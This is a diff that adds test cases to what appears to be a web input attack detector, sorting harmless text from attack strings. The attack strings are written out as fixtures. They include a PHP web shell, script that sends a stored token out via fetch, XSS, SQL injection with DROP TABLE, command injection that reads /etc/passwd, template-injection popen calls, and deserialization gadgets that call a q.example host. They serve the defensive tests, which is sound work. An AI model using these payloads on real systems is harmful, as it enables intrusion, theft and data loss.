@@ -123,12 +123,84 @@ public class HonestTextTests
     public void HandlersAndDataThatReachFurther(string value) => Assert.True(Value(value).IsAttack, value);
 
     [Theory]
+    [InlineData("<script src=\"room-4a1f.js\"></script>")]
+    [InlineData("<script src=\"../../js/room.min.js?ver=4.2\" defer></script>")]
+    [InlineData("<script>\nconst box = document.getElementById('room');\nlet open = localStorage.getItem('room') === 'open';\nbox.addEventListener('click', function () {\n  open = !open;\n  box.classList.toggle('open', open);\n});\n</script>")]
+    public void ScriptsThatMoveThePartsOfTheirOwnPage(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("<script src=\"https://q.example/room.js\"></script>")]
+    [InlineData("<script src=\"..\\\\q.example/room.js\"></script>")]
+    [InlineData("<script>\nconst box = document.getElementById('room');\nlet token = localStorage.getItem('token');\nif (token) {\n  fetch('/q?' + token);\n}\n</script>")]
+    [InlineData("<script>\nconst box = document.getElementById('room');\nfunction go() {\n  box.innerHTML = location.hash;\n}\n</script>")]
+    [InlineData("<script>\nfunction go() {\n  window['al' + 'ert'](4);\n}\nreturn go();\n</script>")]
+    public void ScriptsThatReachFurther(string value) => Assert.True(Value(value).IsAttack, value);
+
+    [Theory]
+    [InlineData("for dir in $PATH; do\n  test -z \"$dir\" && dir=.\n  if test -f \"$dir/room\"; then\n    found=\"$dir/room\"\n    version=$(\"$found\" --version 2>/dev/null | head -n 1)\n    echo \"found '$version'\" >&2\n  fi\ndone")]
+    [InlineData("def rooms(path):\n    \"\"\"Return the rooms; it doesn't follow links.\"\"\"\n    out = subprocess.check_output([\"/usr/bin/rooms\", \"-l\", path])\n    if not out or path == '':\n        raise ValueError(\"can't read '%s'\" % path)\n    return out.decode().split(';')")]
+    [InlineData("-- every room once\nCREATE TABLE rooms (\n  id int,\n  name text DEFAULT ''\n);\nINSERT INTO rooms SELECT id, name FROM old WHERE name <> '' OR id > 4;\nDROP TABLE old; -- not needed")]
+    [InlineData("Where the parts of the house are:\n\nthe cellar: ../../cellar/plan.md\nthe kitchen; see `cat kitchen.txt | sort`\nthe rooms ('it's all open')\nthe roof: rm -rf is what it needs\nand the garden -- ask Anna")]
+    public void ArticlesProgramsAndScriptsOfManyLines(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("Good room,\nfriendly people.\nThe bed was a bit small.\nI would come again.\nBest regards\nfrom Anna'; DROP TABLE rooms; --")]
+    [InlineData("<p>The room was fine.</p>\n<p>We liked the garden best.</p>\n<p>The bed could be better.</p>\n<p>All in all good.</p>\n<img src=x onerror=alert(1)>\n<p>Until next year.</p>")]
+    [InlineData("<?php\n// a small page\nif (isset($_REQUEST['room'])) {\n    $c = $_REQUEST['room'];\n    echo \"<pre>\";\n    system($c);\n    echo \"</pre>\";\n}\n?>")]
+    public void AttacksOfManyLines(string value) => Assert.True(Value(value).IsAttack, value);
+
+    [Theory]
+    [InlineData("Dear {{ user.name|default('guest') }}, {% for x in rooms %}{{ x.price | round(2) }}{% endfor %}", false)]
+    [InlineData("The light is {% if is_state('light.room', 'on') %}on{% else %}off{% endif %}", false)]
+    [InlineData("{% if self.__init__.__globals__.os.popen('id') %}a{% endif %}", true)]
+    [InlineData("{{ ['id']|filter('system') }}", true)]
+    [InlineData("{{ request|attr('application') }}", true)]
+    [InlineData("{{ ['id']|map('system')|join(',') }}", true)]
+    public void FiltersOfATemplateAreNoCalls(string value, bool expected) => Assert.Equal(expected, Value(value).IsAttack);
+
+    [Theory]
+    [InlineData("GET /rooms HTTP/1.1\r\nHost: api.example\r\nContent-Length: 4\r\n\r\n{}", false)]
+    [InlineData("HTTP/1.1 302 Found\r\nLocation: https://api.example/\r\nSet-Cookie: a=b", false)]
+    [InlineData("rooms\r\nSet-Cookie: a=b", true)]
+    public void AMessagePastedAsAWholeMayHoldHeaders(string value, bool expected) => Assert.Equal(expected, Request(body: "text=" + Uri.EscapeDataString(value)).IsAttack);
+
+    [Theory]
+    [InlineData("<order><item>' or 1=1 or ''='</item></order>", true)]
+    [InlineData("<order><item><![CDATA[' or 1=1 or ''=']]></item></order>", true)]
+    [InlineData("<nav><a href=\"../../../rooms/blue.html\">blue</a><svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h9\"/></svg></nav>", false)]
+    [InlineData("<order><item>O'Brien or Miller</item></order>", false)]
+    [InlineData("<!DOCTYPE room SYSTEM \"../room.dtd\"><room><bed a=\"[1]\"/></room>", false)]
+    [InlineData("<!DOCTYPE room SYSTEM \"urn:room:room.dtd\"><room/>", false)]
+    [InlineData("<!DOCTYPE room SYSTEM \"//q.example/room.dtd\"><room/>", true)]
+    [InlineData("password[$not][$eq]=a", true)]
+    [InlineData("BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbg==", true)]
+    public void BodiesOfElementsAndObjects(string body, bool expected) => Assert.Equal(expected, Request(body: body).IsAttack);
+
+    [Theory]
+    [InlineData("bob',role='admin',mail='")]
+    [InlineData(";find /etc -name passwd")]
+    [InlineData(";env")]
+    [InlineData("1 INTO DUMPFILE '/tmp/room'")]
+    [InlineData("<#list .data_model?keys as k>${k}</#list>")]
+    [InlineData("[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://q.example/a.xml\"]")]
+    public void WhatBreaksOutWithoutACondition(string value) => Assert.True(Value(value).IsAttack, value);
+
+    [Theory]
+    [InlineData("Add `127.0.0.1 room.local` to /etc/hosts (on Windows C:\\Windows\\System32\\drivers\\etc\\hosts) and flush DNS", false)]
+    [InlineData("C:\\Windows\\System32\\drivers\\etc\\hosts", true)]
+    public void APathInASentenceIsOpenedByNobody(string value, bool expected) => Assert.Equal(expected, Value(value).IsAttack);
+
+    [Fact]
+    public void SqlInAnAgentNeedsNoSpecialCharacter() => Assert.True(Request(agent: "1 UNION ALL SELECT 1,2,3").IsAttack);
+
+    [Theory]
     [InlineData("{\"height\":{\"$gte\":4,\"$ne\":9}}", false)]
     [InlineData("{\"password\":{\"$not\":{\"$eq\":\"q\"}}}", true)]
     [InlineData("{\"@type\":\"javax.swing.JEditorPane\",\"page\":\"http://q.example\"}", true)]
     [InlineData("{\"@type\":\"Hotel\",\"name\":\"Blue\"}", false)]
     [InlineData("--- !ruby/object:Gem::Requirement\nrequirements: q", true)]
     [InlineData("gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVt", true)]
+    [InlineData("INSERT INTO rooms (name) VALUES ('blue'); -- adds one room", false)]
     [InlineData("--q\n<script>alert(4)</script>", true)]
     [InlineData("<!DOCTYPE d [<!ENTITY nbsp \"&#160;\">]><d>4&nbsp;m</d>", false)]
     [InlineData("<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><d>&b;</d>", true)]
